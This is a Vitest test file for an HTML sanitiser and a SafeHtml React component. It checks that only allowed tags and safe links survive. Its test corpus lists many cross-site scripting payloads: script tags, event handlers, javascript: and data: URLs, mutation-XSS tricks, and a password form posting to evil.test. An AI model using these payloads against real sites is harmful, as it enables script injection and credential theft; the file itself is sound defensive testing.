// @vitest-environment jsdom
import { SAFE_HTML_TAGS } from '@talent/contract';
import { cleanup } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { renderWithMantine as render, stubMatchMedia } from './render-with-mantine.js';
import { SafeHtml, sanitizeHtml } from './SafeHtml.js';

beforeAll(stubMatchMedia);
afterEach(cleanup);

const ALLOWED = new Set<string>(SAFE_HTML_TAGS);

/** Parses sanitised output and lists what survived: every element with its attributes. */
function inspect(html: string) {
  const template = document.createElement('template');
  template.innerHTML = html;
  return [...template.content.querySelectorAll('*')].map((el) => ({
    tag: el.localName,
    attrs: Object.fromEntries([...el.attributes].map((a) => [a.name, a.value])),
  }));
}

/** Everything left is an allowed tag; only links carry attributes, and only a safe href + the forced pair. */
function expectOnlyAllowed(html: string, input: string) {
  for (const { tag, attrs } of inspect(html)) {
    expect(ALLOWED.has(tag), `<${tag}> from ${input}`).toBe(true);
    if (tag !== 'a') {
      expect(attrs, `<${tag}> attributes from ${input}`).toEqual({});
      continue;
    }
    const names = Object.keys(attrs).sort();
    if (names.length === 0) continue;
    expect(names, input).toEqual(['href', 'rel', 'target']);
    expect(attrs.href, input).toMatch(/^(https?|mailto):/i);
    expect(attrs.target).toBe('_blank');
    expect(attrs.rel).toBe('noopener noreferrer');
  }
  expect(html).not.toMatch(/<\s*(script|iframe|object|embed|form|input|svg|math|img|style|link|meta|base)\b/i);
  expect(html).not.toMatch(/\son\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:text/i);
}

const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r="5"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" &#14; javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="//evil.test">protocol-relative</a>',
  '<a href="/relative">relative</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<style>body{display:none}</style><p>after style</p>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.test"><input name="password"><button>Go</button></form>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  '<span id="x" class="y" title="z" data-x="1" aria-label="l" tabindex="0">attrs</span>',
  '<div href="https://ok.test">href on a div</div>',
  '<a href="https://ok.test" target="_self" rel="opener" onclick="x()" style="color:red" download>link</a>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<link rel="stylesheet" href="https://evil.test/x.css"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<table><tr><td>cell</td></tr></table>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<p>ok</p><img src="x" onerror="alert(1)"/><b>bold</b>',
  '"><script>alert(1)</script>',
  '<a href="https://ok.test"><img src=x onerror=alert(1)>text</a>',
  '<h1 onmouseover=alert(1)>Title</h1>',
  '<ul><li onclick=alert(1)>item<script>alert(1)</script></li></ul>',
];

describe('sanitizeHtml', () => {
  it.each(XSS_CORPUS)('leaves only allowed markup: %s', (input) => {
    const out = sanitizeHtml(input);
    expectOnlyAllowed(out, input);
  });

  it.each(XSS_CORPUS)('is idempotent: %s', (input) => {
    const once = sanitizeHtml(input);
    expect(sanitizeHtml(once)).toBe(once);
  });

  it('drops script and style content, keeps the text of other removed elements', () => {
    expect(sanitizeHtml('<p>a<script>alert(1)</script>b</p>')).toBe('<p>ab</p>');
    expect(sanitizeHtml('<style>p{}</style><p>x</p>')).toBe('<p>x</p>');
    expect(sanitizeHtml('<table><tr><td>cell</td></tr></table>')).toBe('cell');
    expect(sanitizeHtml('<form><label>Name</label></form>')).toBe('Name');
  });

  it('keeps every allowed tag', () => {
    const allowed =
      '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>' +
      '<div><p><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <mark>m</mark> <small>sm</small> ' +
      '<del>d</del> <ins>in</ins> H<sub>2</sub>O x<sup>2</sup> <span>sp</span><br></p></div>' +
      '<ul><li>one</li><li>two</li></ul>';
    expect(sanitizeHtml(allowed)).toBe(allowed);
    expect(new Set(inspect(allowed).map((e) => e.tag))).toEqual(new Set(SAFE_HTML_TAGS.filter((t) => t !== 'a')));
  });

  it('keeps http, https and mailto links and forces a new tab without opener', () => {
    expect(sanitizeHtml('<a href="https://jobs.test/apply?id=1&amp;x=2">Apply</a>')).toBe(
      '<a href="https://jobs.test/apply?id=1&amp;x=2" target="_blank" rel="noopener noreferrer">Apply</a>',
    );
    expect(sanitizeHtml('<a href="http://jobs.test">Site</a>')).toBe(
      '<a href="http://jobs.test" target="_blank" rel="noopener noreferrer">Site</a>',
    );
    expect(sanitizeHtml('<a href="mailto:hr@jobs.test" title="mail">Mail</a>')).toBe(
      '<a href="mailto:hr@jobs.test" target="_blank" rel="noopener noreferrer">Mail</a>',
    );
    expect(sanitizeHtml('<a href="javascript:alert(1)" target="_blank">x</a>')).toBe('<a>x</a>');
  });

  it('keeps plain text and entities as text', () => {
    expect(sanitizeHtml('5 < 6 & "quotes"')).toBe('5 &lt; 6 &amp; "quotes"');
    expect(sanitizeHtml('')).toBe('');
    expect(sanitizeHtml(null)).toBe('');
    expect(sanitizeHtml(undefined)).toBe('');
  });
});

describe('<SafeHtml>', () => {
  it('renders the sanitised markup and no script reaches the DOM', () => {
    const html =
      '<p>Hello <strong>world</strong></p><img src=x onerror="window.__xss=1"><a href="https://a.test" onclick="x()">a</a><script>window.__xss=2</script>';
    const { container } = render(<SafeHtml html={html} data-testid="rich" />);
    const root = container.querySelector('.safe-html');
    expect(root).not.toBeNull();
    expect(root?.innerHTML).toBe(
      '<p>Hello <strong>world</strong></p><a href="https://a.test" target="_blank" rel="noopener noreferrer">a</a>',
    );
    expect(container.querySelector('script, img, [onclick]')).toBeNull();
    expect((window as { __xss?: number }).__xss).toBeUndefined();
  });

  it('renders nothing for empty input', () => {
    const { container } = render(<SafeHtml html={null} />);
    expect(container.querySelector('.safe-html')?.innerHTML).toBe('');
  });
});
